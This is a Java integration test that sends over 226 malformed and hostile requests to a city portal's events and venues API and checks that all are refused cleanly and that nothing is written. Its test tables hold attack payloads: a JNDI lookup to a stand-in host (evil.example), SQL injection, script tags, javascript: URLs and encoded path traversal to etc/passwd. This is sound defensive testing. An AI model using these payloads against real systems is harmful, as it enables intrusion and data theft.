package de.stadtportal.e2e;

import static de.stadtportal.e2e.HostileRequests.FAR_FUTURE;
import static de.stadtportal.e2e.HostileRequests.answered;
import static de.stadtportal.e2e.HostileRequests.ids;
import static de.stadtportal.e2e.HostileRequests.json;
import static de.stadtportal.e2e.HostileRequests.orderedMap;
import static de.stadtportal.e2e.HostileRequests.refused;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import de.stadtportal.e2e.HostileRequests.Field;
import de.stadtportal.e2e.HostileRequests.Hostile;
import de.stadtportal.launcher.LocalPlatform;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestMethodOrder;
import tools.jackson.databind.JsonNode;

/**
 * Malformed and hostile requests against events-service's endpoints (events, their cancellation,
 * the feed and the categories, venues), judged by {@link HostileRequests}; afterwards the event
 * and the venue the corpus aimed at must be exactly as they were, and search must hold nothing of
 * them.
 * <p>
 * No case is left out: those once left out for NUL, coerced JSON scalars, years beyond 9999 and the
 * firewall's empty answers to odd ids are in the tables since they were fixed.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileEventsInputIT {

    private static final HostileRequests HOSTILE = HostileRequests.marked("feindtermin");
    private static final String MARKER = HOSTILE.marker();
    private static final String NUL = HOSTILE.nul();

    private static Gateway gateway;
    private static PlatformIssuer issuer;
    private static CityOfItsOwn city;
    private static String c;
    private static String venueId;
    private static String eventId;
    private static Snapshot before;

    @BeforeAll
    static void aCityWithAVenueAndAnEvent() {
        LocalPlatform platform = RunningPlatform.get();
        gateway = new Gateway(platform.gatewayUrl());
        issuer = PlatformIssuer.of(RunningPlatform.get());
        city = CityOfItsOwn.create(gateway, issuer, "Feindstadt");
        c = city.slug();
        venueId = city.firstVenue("Bollwerk Halle");
        eventId = city.eventId("Bollwerk Abendkonzert", venueId);
        before = Snapshot.take();
    }

    @Order(1)
    @TestFactory
    Stream<DynamicTest> every_hostile_request_gets_no_5xx_and_every_refusal_is_a_problem_document() {
        List<Hostile> corpus = corpus();
        System.out.println("HostileEventsInputIT: " + corpus.size() + " hostile requests");
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(226);
        return corpus.stream().map(hostile -> dynamicTest(HOSTILE.name(hostile, c),
                () -> HostileRequests.judge(hostile, gateway, issuer.admin())));
    }

    @Order(2)
    @Test
    void nothing_the_hostile_requests_carried_was_written() {
        Snapshot after = Snapshot.take();
        assertThat(after).isEqualTo(before);

        // What search holds comes through Kafka: once two sentinels, one per kind, written after the
        // corpus are found, anything the corpus wrote would be found with them.
        Set<String> sentinels = new TreeSet<>(List.of(
                city.venueId(MARKER + " Wachhaus"),
                city.eventId(MARKER + " Wachablösung", venueId)));
        await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(500)).untilAsserted(() ->
                assertThat(HOSTILE.foundByMarker(city)).containsAll(sentinels));
        assertThat(HOSTILE.foundByMarker(city)).isEqualTo(sentinels);
    }

    // ---- the corpus

    private static List<Hostile> corpus() {
        List<Hostile> corpus = new ArrayList<>();
        String event = "/api/events/" + eventId;
        String venue = "/api/venues/" + venueId;

        // every JSON body endpoint: broken JSON, wrong shapes, wrong content types, oversized bodies
        corpus.addAll(HOSTILE.malformedBodies("POST", "/api/events", Map.of()));
        corpus.addAll(HOSTILE.malformedBodies("PUT", event, Map.of("If-Match", () -> city.etag(event))));
        corpus.addAll(HOSTILE.malformedBodies("POST", "/api/events/batch", Map.of()));
        corpus.addAll(HOSTILE.malformedBodies("POST", "/api/venues", Map.of()));
        corpus.addAll(HOSTILE.malformedBodies("PUT", venue, Map.of("If-Match", () -> city.etag(venue))));

        // well-formed JSON with one hostile field each
        corpus.addAll(HOSTILE.fields("POST", "/api/events", Map.of(), () -> city.event(MARKER + " Konzert", venueId),
                EVENT_FIELDS));
        corpus.addAll(HOSTILE.fields("PUT", event, Map.of("If-Match", () -> city.etag(event)),
                () -> city.event(MARKER + " Konzert", venueId), EVENT_UPDATE_FIELDS));
        corpus.addAll(HOSTILE.fields("POST", "/api/venues", Map.of(), () -> city.venue(MARKER + " Halle"), VENUE_FIELDS));
        corpus.addAll(HOSTILE.fields("PUT", venue, Map.of("If-Match", () -> city.etag(venue)),
                () -> city.venue(MARKER + " Halle"), VENUE_UPDATE_FIELDS));

        // a batch: all or none, so one bad item must keep the good ones before it out too
        String valid = json(city.event(MARKER + " Konzert", venueId));
        corpus.add(refused("POST", "/api/events/batch", "events as a string")
                .body("application/json", "{\"events\": \"" + MARKER + "\"}"));
        corpus.add(refused("POST", "/api/events/batch", "events as numbers").body("application/json", "{\"events\": [1, 2]}"));
        corpus.add(refused("POST", "/api/events/batch", "a valid event, then one without a title")
                .body("application/json", "{\"events\": [" + valid + ", {\"city\": \"" + c + "\"}]}"));
        corpus.add(refused("POST", "/api/events/batch", "a valid event, then one at a venue of no city")
                .body("application/json", "{\"events\": [" + valid + ", "
                        + json(city.event(MARKER + " Irrfahrt", UUID.randomUUID().toString())) + "]}"));
        corpus.add(refused("POST", "/api/events/batch", "101 valid events").body("application/json",
                "{\"events\": [" + String.join(", ", Collections.nCopies(101, valid)) + "]}"));

        // an import: all or none as well, and a calendar is read only for an editor of its city
        String importing = city.importPath(venueId);
        String good = CityOfItsOwn.calendar(MARKER + " Gastspiel").text();
        String vevent = good.substring(good.indexOf("BEGIN:VEVENT"), good.indexOf("END:VCALENDAR"));
        String head = good.substring(0, good.indexOf("BEGIN:VEVENT"));
        for (Map.Entry<String, String> broken : orderedMap(
                "JSON instead of a calendar", "{\"events\": []}",
                "a calendar cut off midway", good.substring(0, good.length() / 2),
                "a calendar without events", head + "END:VCALENDAR\r\n",
                "a VEVENT without UID", good.replaceFirst("UID:[^\r]*\r\n", ""),
                "a VEVENT without DTSTART", good.replaceFirst("DTSTART[^\r]*\r\n", ""),
                "a good VEVENT, then a cancelled one", head + vevent
                        + vevent.replace("UID:", "UID:x").replace("END:VEVENT", "STATUS:CANCELLED\r\nEND:VEVENT")
                        + "END:VCALENDAR\r\n",
                "a VEVENT with a NUL in its title", good.replace("SUMMARY:", "SUMMARY:\u0000"),
                "a time zone no one knows", good.replace("TZID=Europe/Berlin", "TZID=Mare/Tranquillitatis"),
                "501 VEVENTs", head + String.join("", IntStream.range(0, 501)
                        .mapToObj(i -> vevent.replace("UID:", "UID:" + i)).toList()) + "END:VCALENDAR\r\n",
                "a calendar over 1 MB", good.replace("SUMMARY:", "DESCRIPTION:" + "x".repeat(1024 * 1024)
                        + "\r\nSUMMARY:")).entrySet()) {
            corpus.add(refused("POST", importing, broken.getKey()).body("text/calendar", broken.getValue()));
        }
        corpus.add(refused("POST", importing, "a calendar sent as JSON").body("application/json", good));
        corpus.add(refused("POST", city.importPath(UUID.randomUUID().toString()), "a calendar for a venue of no city")
                .body("text/calendar", good));
        corpus.add(refused("POST", "/api/events/import?venueId=" + venueId, "a calendar for no city")
                .body("text/calendar", good));

        // cancellation and deletion take no body worth judging: hostile paths and headers
        for (String step : List.of("/cancellation", "")) {
            String method = step.isEmpty() ? "DELETE" : "POST";
            corpus.add(refused(method, event + step, "a made-up If-Match").header("If-Match", "W/\"0\""));
            corpus.add(refused(method, event + step, "an oversized body")
                    .body("application/json", HOSTILE.oversizedJson()));
            for (Map.Entry<String, String> id : HOSTILE_IDS.entrySet()) {
                corpus.add(refused(method, "/api/events/" + id.getValue() + step, "the event id " + id.getKey()));
            }
        }
        for (Map.Entry<String, String> id : HOSTILE_IDS.entrySet()) {
            corpus.add(refused("PUT", "/api/venues/" + id.getValue(), "the venue id " + id.getKey())
                    .body("application/json", json(city.venue(MARKER + " Halle"))));
            corpus.add(refused("GET", "/api/venues/" + id.getValue(), "the venue id " + id.getKey()));
            corpus.add(refused("GET", "/api/events/" + id.getValue(), "the event id " + id.getKey()));
        }

        corpus.addAll(wrongMethods(event, venue));
        corpus.addAll(queries(event));
        return corpus;
    }

    private static final List<Field> EVENT_FIELDS = List.of(
            new Field("title", "\"\"", "empty"),
            new Field("title", "[\"" + MARKER + "\"]", "an array"),
            new Field("title", NUL, "with NUL"), new Field("description", NUL, "with NUL"),
            new Field("title", "12", "a number"), new Field("start", "1e300", "a huge number"),
            new Field("start", "\"2027-02-30T19:00:00+01:00\"", "the 30th of February"),
            new Field("start", "\"2027-03-20T19:00:00\"", "without offset"),
            new Field("start", FAR_FUTURE, "year 999999999"),
            new Field("end", "\"2020-01-01T00:00:00+01:00\"", "before the start"),
            new Field("category", "\"<script>alert(1)</script>\"", "a script tag"),
            new Field("category", "\"konzert'; DROP TABLE event; --\"", "SQL injection"),
            new Field("venueId", "\"not-a-uuid\"", "not a UUID"),
            new Field("venueId", "\"00000000-0000-0000-0000-000000000000\"", "an unknown venue"),
            new Field("city", "\"bochum\"", "another city than the venue's"),
            new Field("city", "\"../bochum\"", "path traversal"),
            new Field("price.min", "-1", "negative"),
            new Field("price.min", "1e309", "beyond double"),
            new Field("price.free", "\"vielleicht\"", "not a boolean"),
            new Field("recurrence", "{\"rrule\": \"FREQ=SECONDLY;COUNT=100000000\", \"exdates\": []}",
                    "a hundred million seconds"),
            new Field("recurrence", "{\"rrule\": \"${jndi:ldap://evil.example/a}\", \"exdates\": []}", "a JNDI lookup"),
            new Field("recurrence.exdates", "[\"gestern\"]", "words as exception date"),
            new Field("ticketUrl", "\"javascript:alert(1)\"", "a javascript: URL"),
            new Field("allDay", "\"yes\"", "not a boolean"),
            new Field("accessibility", "\"wheelchair\"", "a string, not a list"),
            new Field("image", "{\"url\": \"ftp://example.org/x.jpg\"}", "an ftp: URL"));

    private static final List<Field> EVENT_UPDATE_FIELDS = List.of(
            new Field("start", "\"20270320T190000Z\"", "basic ISO format"),
            new Field("category", "\"\\u202ekonzert\"", "an RTL override"),
            new Field("venueId", "12345", "a number"),
            new Field("price", "\"free\"", "a string, not a price"),
            new Field("city", "\"\\ud83c\\udf89\"", "an emoji"));

    private static final List<Field> VENUE_FIELDS = List.of(
            new Field("name", "\"\"", "empty"),
            new Field("name", "{}", "an object"),
            new Field("name", "42", "a number"),
            new Field("geo.lat", "91", "north of the pole"),
            new Field("geo.lon", "-180.5", "west of the date line"),
            new Field("geo.lat", "1e999", "beyond double"),
            new Field("geo.lat", "\"51,48\"", "text with a comma"),
            new Field("geo", "[51.48, 7.22]", "a list, not a point"),
            new Field("address.postalCode", "{}", "an object"),
            new Field("url", "\"javascript:alert(1)\"", "a javascript: URL"),
            new Field("city", "\"atlantis\"", "an unknown city"),
            new Field("city", "\"' OR 1=1 --\"", "SQL injection"),
            new Field("accessibility", "{\"wheelchair\": true}", "an object, not a list"),
            new Field("accessibility", "[1, 2, 3]", "numbers"));

    private static final List<Field> VENUE_UPDATE_FIELDS = List.of(
            new Field("city", "\"bochum\"", "moving the venue to another city without right to"),
            new Field("geo.lon", "\"NaN\"", "NaN"),
            new Field("address", "\"Marienplatz 1\"", "a string, not an address"));

    /** Ids no resource has; none may reach a database query that fails. */
    private static final Map<String, String> HOSTILE_IDS = orderedMap(
            "not a UUID", "not-a-uuid",
            "in upper case", "00000000-0000-0000-0000-00000000000A",
            "SQL injection", "1%27%20OR%20%271%27%3D%271",
            "an RTL override", "%E2%80%AE" + "a1b2",
            "an emoji", "%F0%9F%8E%89",
            "a lone surrogate (CESU-8)", "%ED%A0%80",
            "overlong UTF-8 dots", "%c0%ae%c0%ae%c0%af",
            "a template expression", "%24%7B7*7%7D",
            "encoded path traversal", "..%2f..%2fetc%2fpasswd",
            "encoded dots", "%2e%2e",
            "a semicolon", "..;",
            "NUL", "%00");

    private static List<Hostile> wrongMethods(String event, String venue) {
        return List.of(
                refused("PUT", "/api/events", "PUT on all events").body("application/json", "{}"),
                refused("DELETE", "/api/events", "DELETE on all events"),
                refused("PATCH", event, "PATCH on an event").body("application/json", "{\"title\":\"" + MARKER + "\"}"),
                refused("PUT", event + "/cancellation", "PUT on a cancellation"),
                refused("GET", event + "/cancellation", "GET on a cancellation"),
                refused("POST", "/api/events/feed.ics", "POST on the feed"),
                refused("POST", "/api/events/categories", "POST on the categories").body("application/json", "{}"),
                refused("DELETE", "/api/venues", "DELETE on all venues"),
                refused("PATCH", venue, "PATCH on a venue").body("application/json", "{\"name\":\"" + MARKER + "\"}"));
    }

    /** Query parameters: refused when they are not what the parameter takes, answered when they are only odd text. */
    private static List<Hostile> queries(String event) {
        String garbageCursor = "%E2%98%83%E2%98%83";
        String foreignCursor = Base64.getUrlEncoder().withoutPadding()
                .encodeToString("c1\u001f' OR 1=1 --\u001fnot-a-uuid".getBytes(StandardCharsets.UTF_8));
        List<Hostile> cases = new ArrayList<>();
        for (String list : List.of("/api/events", "/api/venues?city=" + c)) {
            String join = list.contains("?") ? "&" : "?";
            for (String limit : List.of("-1", "0", "101", "1e9", "99999999999999999999", "zehn")) {
                cases.add(refused("GET", list + join + "limit=" + limit, "limit=" + limit));
            }
            cases.add(refused("GET", list + join + "cursor=" + garbageCursor, "a cursor of snowmen"));
            cases.add(refused("GET", list + join + "cursor=" + foreignCursor, "a cursor with SQL inside"));
        }
        cases.add(refused("GET", "/api/events?city=%00", "NUL as the events' city"));
        cases.add(refused("GET", "/api/events/feed.ics?city=%00", "NUL as the feed's city"));
        cases.add(refused("GET", "/api/venues?city=%00", "NUL as the venues' city"));
        for (String events : List.of("near=999,999", "near=NaN,NaN", "near=1e400,7", "near=abc", "near=51.4",
                "radiusKm=5", "near=51.4,7.2&radiusKm=-5", "near=51.4,7.2&radiusKm=1e9", "from=2027-02-30",
                "from=2027-03-01&to=2027-02-01", "from=2000-01-01&to=2099-01-01", "from=gestern",
                "category=%3Cscript%3E", "venue=not-a-uuid", "free=vielleicht", "accessible=1")) {
            cases.add(refused("GET", "/api/events?" + events, events));
        }
        cases.add(refused("GET", "/api/events?from=%2B999999999-12-31T23:59:59%2B18:00", "from in year 999999999"));
        cases.add(refused("GET", "/api/events/feed.ics?category=%3Cscript%3E", "a script tag as category of the feed"));

        // odd text where text is welcome: answered (200), never a 5xx
        for (String odd : List.of("%27%20OR%201%3D1%20--", "%3Cscript%3E", "%F0%9F%8E%89")) {
            cases.add(answered("GET", "/api/events?city=" + odd, "events in the city " + odd));
            cases.add(answered("GET", "/api/events/feed.ics?city=" + odd, "the feed of the city " + odd));
            cases.add(answered("GET", "/api/venues?city=" + odd, "venues in the city " + odd));
        }
        cases.add(answered("GET", event, "a client that takes only XML").header("Accept", "application/xml"));
        cases.add(answered("GET", event, "an Accept of garbage").header("Accept", "text/html, */*;q=0.1"));
        cases.add(answered("GET", "/api/events/categories?x=%00", "categories with NUL in an unknown parameter"));
        return cases;
    }

    // ---- what "nothing was written" compares

    /** What the corpus aimed at, read through the public API. */
    record Snapshot(long eventVersion, String eventStatus, List<String> occurrences, long venueVersion,
            List<String> venues) {

        static Snapshot take() {
            JsonNode event = city.read("/api/events/" + eventId);
            return new Snapshot(
                    event.path("version").asLong(), event.path("status").asString(),
                    ids(city.read("/api/events?city=" + c + "&limit=100"), "eventId"),
                    city.read("/api/venues/" + venueId).path("version").asLong(),
                    ids(city.read("/api/venues?city=" + c + "&limit=100"), "id"));
        }
    }
}
